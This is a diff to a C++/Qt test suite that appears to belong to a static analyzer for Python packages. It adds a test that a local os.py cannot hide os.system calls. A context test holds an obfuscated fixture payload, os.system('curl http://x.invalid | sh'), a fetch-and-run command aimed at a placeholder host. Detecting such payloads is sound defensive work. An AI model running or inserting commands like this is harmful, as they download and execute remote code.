@@ -209,6 +209,17 @@ class TestReach : public QObject {
         QCOMPARE(sequence.calls.front().source, 0u); // still where it stands, for the code view
     }
 
+    void aModuleNamedLikeTheStandardLibraryHidesNothing() {
+        // Python imports the standard library's os before a package's own os.py, so that file is not what
+        // `import os` runs: neither its empty `system` nor `<local>` may stand in for os.system.
+        const std::vector<File> package = {
+            {"mypkg/__init__.py", "import os, subprocess\nos.system('id')\nsubprocess.Popen('id')\n"},
+            {"os.py", "def system(command):\n    pass\n"},
+            {"subprocess/__init__.py", "x = 1\n"},
+        };
+        QCOMPARE(names(analyzeEntry(package, 0, "")), list("os.system subprocess.Popen"));
+    }
+
     void base64ZlibOnionIsPeeled() {
         const std::string inner = "import os\nos.system('curl http://x.invalid | sh')\n";
         const std::string script = wrapLayer(wrapLayer(wrapLayer(inner)));
